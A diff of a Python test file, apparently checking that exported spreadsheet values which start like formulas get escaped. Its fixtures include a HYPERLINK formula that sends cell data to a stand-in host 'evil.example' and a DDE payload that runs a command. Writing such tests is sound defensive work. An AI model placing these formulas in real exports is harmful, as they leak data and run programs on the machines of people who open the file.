@@ -24,7 +24,16 @@ TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 NAME = "@SUM(1+1) Mallory"
 # Hashed text of events, each starting as a spreadsheet formula would, and one that really
 # starts with a quote before "=" (it must read back with its quote).
-TRIGGERS = ["=cmd|' /C calc'!A0", "+note", "-note", "@note", "\tnote", "'=quoted", "''+twice"]
+TRIGGERS = [
+    "=cmd|' /C calc'!A0",
+    "+note",
+    "-note",
+    "@note",
+    "\tnote",
+    "\rnote",
+    "'=quoted",
+    "''+twice",
+]
 
 
 @pytest.fixture
